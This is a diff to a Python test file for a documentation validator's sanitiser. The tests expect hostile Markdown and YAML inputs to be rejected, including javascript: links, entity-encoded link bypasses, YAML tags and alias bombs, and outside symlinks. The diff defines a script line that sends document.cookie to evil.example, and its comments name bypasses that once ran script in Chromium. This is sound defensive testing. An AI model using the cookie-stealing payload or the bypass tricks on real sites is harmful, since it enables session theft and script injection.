@@ -40,10 +40,22 @@ ROWS: list[tuple[str, str, int]] = [
     ("cases/meta-refresh.md", "active-html", 29),
     ("cases/base-href.md", "active-html", 25),
     ("courses/hostile-course/index.md", "active-html", 14),
-    # active HTML in front matter (escaped wherever shown, and still refused)
-    ("cases/html-in-title.md", "active-html", 2),
-    ("cases/event-handler-in-organisation.md", "active-html", 6),
-    ("courses/digital-transformation-for-smes/90-quiz-with-html.md", "active-html", 7),
+    # HTML in front matter: plain text, escaped wherever it is shown (ACCEPTED_INERT checks
+    # the built pages); the contributor is warned that it will show as written
+    ("cases/html-in-title.md", "markup-in-text", 2),
+    ("cases/event-handler-in-organisation.md", "markup-in-text", 6),
+    ("courses/digital-transformation-for-smes/90-quiz-with-html.md", "markup-in-text", 7),
+    # what the sanitiser's policy removes, told to the contributor with the line
+    ("cases/css-background-hides-page.md", "active-html", 29),
+    ("cases/id-attribute.md", "active-html", 29),
+    ("cases/meta-refresh-in-text.md", "active-html", 29),
+    ("cases/target-blank-form.md", "active-html", 29),
+    ("cases/heading-one-in-body.md", "heading-level", 29),
+    ("cases/remote-image.md", "remote-image", 29),
+    # links inside the collection lead to published pages only
+    ("cases/link-to-a-draft.md", "unpublished-link", 29),
+    ("cases/link-to-a-folder.md", "not-a-page", 29),
+    ("cases/link-to-a-non-page-file.md", "not-a-page", 29),
     # links that run script, load data or leave the site
     ("cases/javascript-link.md", "unsafe-url", 29),
     ("cases/javascript-reference-link.md", "unsafe-url", 31),
@@ -69,7 +81,7 @@ ROWS: list[tuple[str, str, int]] = [
     ("cases/render-macros-true.md", "jinja-syntax", 30),
     ("guidelines/jinja-in-guideline.md", "jinja-syntax", 13),
     # YAML that tries to run code or exhaust memory
-    ("cases/python-object-tag.md", "yaml-syntax", 2),
+    ("cases/python-object-tag.md", "yaml-tag", 2),
     ("cases/alias-bomb.md", "yaml-alias", 21),
     ("cases/deep-nesting.md", "yaml-too-deep", 21),
     ("cases/duplicate-key.md", "yaml-duplicate-key", 13),
@@ -94,8 +106,6 @@ ROWS: list[tuple[str, str, int]] = [
     ("cases/diagram.svg", "unexpected-file", 1),
     ("stray-page.md", "unexpected-file", 1),
     # Once validator gaps, each confirmed to run script in Chromium before it was closed:
-    # attr_list (enabled in mkdocs.yml) turns `{ onclick="..." }` after a link into an attribute
-    ("cases/attr-list-event-handler.md", "active-html", 29),
     # the browser decodes &colon; in an attribute: href="javascript&colon;alert(1)//../x.md"
     ("cases/entity-encoded-javascript-link.md", "unsafe-url", 29),
     # the markup check reads one line at a time; the tag's attribute is on the next line
@@ -284,8 +294,62 @@ def nul_bytes_in_front_matter(tree: Tree) -> Path:
     return path
 
 
+def variant(name: str, old: str, new: str, encoding: str = "utf-8") -> Callable[[Tree], Path]:
+    """A builder: the corpus case with ``old`` replaced by ``new``, as ``cases/<name>.md``."""
+
+    def build(tree: Tree) -> Path:
+        path = tree.root / "cases" / f"{name}.md"
+        assert old in CORPUS_CASE
+        path.write_bytes(CORPUS_CASE.replace(old, new, 1).encode(encoding, "surrogatepass"))
+        return path
+
+    return build
+
+
+def old_mac_line_endings(tree: Tree) -> Path:
+    path = tree.root / "cases" / "old-mac-line-endings.md"
+    path.write_bytes(CORPUS_CASE.replace("\n", "\r").encode("utf-8"))
+    return path
+
+
+SCRIPT_LINE = "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
+
 # (id, builder, expected code, expected line)
 GENERATED: list[tuple[str, Callable[[Tree], Path], str, int]] = [
+    (
+        "!!binary tag",
+        variant("yaml-binary", "year: 2021", "year: !!binary aGVsbG8="),
+        "yaml-tag",
+        11,
+    ),
+    ("!!set tag", variant("yaml-set", "sdgs: [2]", "sdgs: !!set {2: null}"), "yaml-tag", 10),
+    (
+        "'...' ends the YAML",
+        variant("yaml-end", "stage: pilot\n", "...\nstage: pilot\n"),
+        "yaml-document-end",
+        12,
+    ),
+    (
+        "closing '---' with trailing spaces",
+        variant("fence-spaces", "2025-06-01\n---\n", "2025-06-01\n---   \n"),
+        "front-matter-fence",
+        21,
+    ),
+    ("old Mac line endings", old_mac_line_endings, "line-endings", 1),
+    ("infinity", variant("infinite-year", "year: 2021", "year: .inf"), "number-out-of-range", 11),
+    ("NaN", variant("nan-year", "year: 2021", "year: .nan"), "number-out-of-range", 11),
+    (
+        "a number JSON cannot hold",
+        variant("huge-year", "year: 2021", "year: " + "9" * 400),
+        "number-out-of-range",
+        11,
+    ),
+    (
+        "NUL byte in a link target",
+        variant("nul-link", SCRIPT_LINE, "See [the report](report\x00.md)."),
+        "unsafe-url",
+        29,
+    ),
     ("NUL byte in front matter", nul_bytes_in_front_matter, "yaml-syntax", 6),
     ("symlink to a file outside", symlink_to_a_file_outside, "unsafe-symlink", 1),
     ("symlink to a folder outside", symlink_to_a_folder_outside, "unsafe-symlink", 1),
